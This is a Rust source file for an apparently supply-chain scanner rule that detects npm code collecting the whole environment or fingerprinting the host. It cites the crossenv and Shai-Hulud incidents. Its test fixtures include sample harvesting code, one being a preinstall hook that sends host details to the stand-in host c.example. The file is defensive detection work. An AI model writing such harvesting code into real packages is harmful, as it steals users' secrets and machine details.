//! Rule `env-harvest`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// The whole environment is serialised or walked (`JSON.stringify(process.env)`,
    /// `Object.keys/entries/values(process.env)`, `for (k in process.env)`): every secret in it
    /// at once. Diagnostics tools print it locally (`medium`); with network access in the same
    /// file or at install time it is exfiltration (`high`).
    id: "env-harvest",
    category: Data,
    severity: Medium,
    capability: Some(crate::model::Capability::Environment),
    title: "collects the whole environment",
    incident: "crossenv typosquat (2017) posted base64(JSON.stringify(process.env)); Shai-Hulud (2025) dumped env",
    case_file: "index.js",
    flag: ["const data = Buffer.from(JSON.stringify(process.env)).toString('base64')",
           "const e = process.env; for (const k in e) out[k] = e[k]",
           "Object.entries(process.env).forEach(([k, v]) => send(k, v))",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"node index.js\"}}\n=== index.js\nconst os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), p: os.platform() }); https.get('https://c.example/?d=' + d)"],
    pass: ["const token = process.env.API_TOKEN", "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })", "const env = Object.assign({}, process.env, { A: 1 })"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let text = crate::regex!(
        r"JSON\.stringify\(\s*process\.env\s*[,)]|Object\.(keys|entries|values)\(\s*process\.env\s*\)"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let hit = match &f.js {
            Some(js) => js
                .calls
                .iter()
                .find(|c| {
                    matches!(
                        c.path.as_str(),
                        "JSON.stringify"
                            | "Object.keys"
                            | "Object.entries"
                            | "Object.values"
                            | "<for-in>"
                            | "Object.getOwnPropertyNames"
                    ) && c.arg_path(0) == Some("process.env")
                })
                .map(|c| (c.off, c.path.clone())),
            None => find_text(f, text).into_iter().next(),
        };
        let hit = hit.or_else(|| {
            // A host fingerprint: who and where the machine is, collected in one place.
            let js = f.js.as_ref()?;
            let probes = [
                "os.hostname",
                "os.userInfo",
                "os.homedir",
                "os.networkInterfaces",
                "dns.getServers",
                "os.platform",
                "os.arch",
                "os.release",
            ];
            let seen: Vec<&str> = probes
                .iter()
                .copied()
                .filter(|p| js.calls.iter().any(|c| c.path == *p))
                .collect();
            let identity = seen
                .iter()
                .filter(|p| {
                    matches!(
                        **p,
                        "os.userInfo" | "os.networkInterfaces" | "dns.getServers" | "os.hostname"
                    )
                })
                .count();
            (seen.len() >= 4 && identity >= 3 && super::has_network(f) && pkg.is_install_file(f))
                .then(|| {
                    js.calls
                        .iter()
                        .find(|c| c.path == seen[0])
                        .map(|c| (c.off, format!("host fingerprint: {}", seen.join(", "))))
                })
                .flatten()
        });
        let Some((off, what)) = hit else { continue };
        let exfil = super::has_network(f);
        let sev = if exfil || pkg.is_install_file(f) {
            Severity::High
        } else {
            Severity::Medium
        };
        let what = if what == "<for-in>" {
            "for…in".to_string()
        } else {
            what
        };
        let tail = if exfil {
            " in a file that also uses the network"
        } else {
            ""
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("collects every environment variable ({what}){tail}"),
        );
    }
}
